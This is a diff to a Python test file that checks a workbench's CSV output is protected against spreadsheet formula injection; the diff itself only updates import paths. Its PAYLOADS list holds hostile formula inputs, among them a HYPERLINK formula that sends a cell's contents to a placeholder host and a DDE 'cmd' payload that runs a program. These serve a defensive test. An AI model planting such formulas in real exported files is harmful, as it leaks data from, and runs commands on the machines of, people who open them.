@@ -1,6 +1,6 @@
 """CSV injection (OWASP): no CSV field the workbench writes is a spreadsheet formula.
 
-``workbench.text.csv_cell`` is the Python copy of the report's CSV-button rule
+``workbench.common.text.csv_cell`` is the Python copy of the report's CSV-button rule
 (``assets/tables.js``, tested in a browser in ``test_browser.py``); the calibration writer
 applies it to every field.
 """
@@ -12,8 +12,8 @@ from pathlib import Path
 
 import pytest
 
-from workbench.calibrate import write_csv
-from workbench.text import csv_cell
+from workbench.common.text import csv_cell
+from workbench.sim.calibrate import write_csv
 
 PAYLOADS = ['=HYPERLINK("http://x/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-1+2",
             "@SUM(A1)", "\t=1+2", "\r=1+2", "  =1+2", "-", "--", "+", "=", "@"]
